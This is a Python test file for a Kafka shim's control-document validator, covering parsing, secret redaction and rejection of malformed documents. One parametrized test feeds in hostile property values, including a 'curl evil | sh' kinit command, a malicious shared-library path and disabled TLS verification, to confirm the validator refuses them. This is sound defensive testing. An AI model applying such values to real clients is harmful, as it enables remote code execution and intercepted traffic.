"""Control documents are validated whole before use; every error names the path and the fix."""

from __future__ import annotations

import json
from typing import Any

import pytest

from kafkashim.control.document import ClusterProfile, parse_document
from kafkashim.errors import ForbiddenPropertyError, InvalidDocumentError, UnknownClusterError

SRC = "/etc/kafkashim/control.json"


def doc(**overrides: Any) -> str:
    base: dict[str, Any] = {
        "active": "onprem",
        "clusters": {
            "onprem": {"bootstrap.servers": "kafka-1:9092"},
            "ccloud": {
                "bootstrap.servers": "pkc-1.aws.confluent.cloud:9092",
                "security.protocol": "SASL_SSL",
                "sasl.mechanisms": "PLAIN",
                "sasl.username": "KEY123",
                "sasl.password": "hunter2-secret",
                "schema.registry.url": "https://psrc-9.aws.confluent.cloud",
            },
        },
    }
    base.update(overrides)
    return json.dumps(base)


def test_a_good_document_parses_into_immutable_profiles() -> None:
    d = parse_document(doc(epoch=7), source=SRC)
    assert d.active == "onprem" and d.epoch == 7
    assert d.active_profile.bootstrap_servers == "kafka-1:9092"
    with pytest.raises(TypeError):
        d.clusters["ccloud"].properties["bootstrap.servers"] = "evil:9092"  # type: ignore[index]


def test_epoch_defaults_to_the_sources_version() -> None:
    assert parse_document(doc(), source=SRC, default_epoch=42).epoch == 42


def test_schema_registry_settings_never_reach_librdkafka() -> None:
    props = parse_document(doc(), source=SRC).clusters["ccloud"].client_properties()
    assert "schema.registry.url" not in props
    assert props["bootstrap.servers"] == "pkc-1.aws.confluent.cloud:9092"


def test_repr_of_a_profile_and_a_document_never_shows_secrets() -> None:
    d = parse_document(doc(), source=SRC)
    assert "hunter2-secret" not in repr(d.clusters["ccloud"])
    assert "hunter2-secret" not in repr(d)
    assert "KEY123" in repr(d.clusters["ccloud"])  # a key id is not a secret and helps debugging


def test_profiles_compare_by_content() -> None:
    a = ClusterProfile("x", {"bootstrap.servers": "a:1", "sasl.password": "p1"})
    assert a == ClusterProfile("x", {"sasl.password": "p1", "bootstrap.servers": "a:1"})
    assert a != ClusterProfile("x", {"bootstrap.servers": "a:1", "sasl.password": "p2"})


@pytest.mark.parametrize(
    ("text", "path", "message"),
    [
        ("{not json", None, "is not valid JSON"),
        ('["active"]', "(document)", "must be a JSON object"),
        (doc(active=""), "active", "must be the name of a cluster"),
        (doc(active=3), "active", "must be the name of a cluster"),
        (doc(clusters={}), "clusters", "non-empty object"),
        (doc(clusters=[]), "clusters", "non-empty object"),
        (doc(clusters={"onprem": "kafka:9092"}), "clusters.onprem", "must be an object"),
        (doc(clusters={"onprem": {}}), "clusters.onprem.bootstrap.servers", "non-empty host:port"),
        (doc(clusters={"onprem": {"bootstrap.servers": " "}}), "clusters.onprem.bootstrap.servers", "non-empty"),
        (doc(clusters={"onprem": {"bootstrap.servers": "k:1", "socket.timeout.ms": 1.5}}), None, "string, integer"),
        (doc(clusters={"onprem": {"bootstrap.servers": ["k:1"]}}), None, "string, integer or boolean"),
        (doc(clusters={"on prem!": {"bootstrap.servers": "k:1"}}), "clusters.on prem!", "not a valid cluster name"),
        (doc(epoch=-1), "epoch", "non-negative integer"),
        (doc(epoch=True), "epoch", "non-negative integer"),
        (doc(route={}), "route", "not a known field"),
        (
            doc(clusters={"onprem": {"bootstrap.servers": "k:1", "sasl.password": "${nope:x}"}}),
            "clusters.onprem.sasl.password",
            "unknown scheme 'nope'",
        ),
        (
            doc(clusters={"onprem": {"bootstrap.servers": "k:1", "sasl.password": "${vault:secret/k#p"}}),
            "clusters.onprem.sasl.password",
            "without a matching",
        ),
        (
            doc(clusters={"onprem": {"bootstrap.servers": "k:1", "sasl.password": "${vault:secret/k}"}}),
            "clusters.onprem.sasl.password",
            "field of the KV v2 secret",
        ),
    ],
)
def test_malformed_documents_are_rejected_with_the_path(text: str, path: str | None, message: str) -> None:
    with pytest.raises(InvalidDocumentError, match=message) as info:
        parse_document(text, source=SRC)
    assert info.value.source == SRC
    assert SRC in str(info.value)
    if path is not None:
        assert info.value.path == path
        assert path in str(info.value)


def test_unknown_active_cluster_lists_the_defined_ones() -> None:
    with pytest.raises(UnknownClusterError) as info:
        parse_document(doc(active="gcp"), source=SRC)
    assert "active='gcp'" in str(info.value)
    assert "ccloud, onprem" in str(info.value)


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("plugin.library.paths", "/tmp/evil.so"),
        ("sasl.kerberos.kinit.cmd", "curl evil | sh"),
        ("ssl.engine.location", "/tmp/engine.so"),
        ("ssl.ca.location", "/etc/passwd"),
        ("enable.ssl.certificate.verification", False),
        ("ssl.endpoint.identification.algorithm", "none"),
        ("enable.sasl.oauthbearer.unsecure.jwt", True),
        ("linger.ms", 5),
    ],
)
def test_properties_a_remote_document_may_not_set_are_refused(key: str, value: object) -> None:
    text = doc(clusters={"onprem": {"bootstrap.servers": "k:1", key: value}})
    with pytest.raises(ForbiddenPropertyError) as info:
        parse_document(text, source=SRC)
    assert info.value.path == f"clusters.onprem.{key}"
    assert str(value) not in str(info.value) or isinstance(value, bool)


def test_secret_values_never_appear_in_validation_errors() -> None:
    text = doc(clusters={"onprem": {"bootstrap.servers": "k:1", "sasl.password": "hunter2-secret", "bad": 1}})
    with pytest.raises(InvalidDocumentError) as info:
        parse_document(text, source=SRC)
    assert "hunter2-secret" not in str(info.value)
